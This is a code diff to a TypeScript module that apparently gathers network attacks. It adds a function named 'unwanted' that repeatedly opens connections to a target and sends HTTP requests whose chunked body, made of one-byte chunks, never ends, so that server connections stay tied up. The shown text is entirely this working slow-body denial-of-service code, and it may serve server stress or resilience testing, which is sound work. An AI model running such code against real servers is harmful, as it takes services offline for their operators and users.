@@ -340,6 +340,20 @@ export const trickled =
     }
   }
 
+/** A request with a body that has no end, in chunks of one byte; when it is closed, another one. */
+export const unwanted =
+  (target: string): Attack =>
+  async (at) => {
+    const chunks = Buffer.from("1\r\nx\r\n".repeat(10_000))
+    while (!at.isOver) {
+      const socket = at.connect()
+      at.lives++
+      socket.resume()
+      socket.write(`${target} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n`)
+      await pour(at, socket, chunks)
+    }
+  }
+
 /**
  * WebSockets that ask whether a session may change to them, and go: of one session, which goes on.
  */
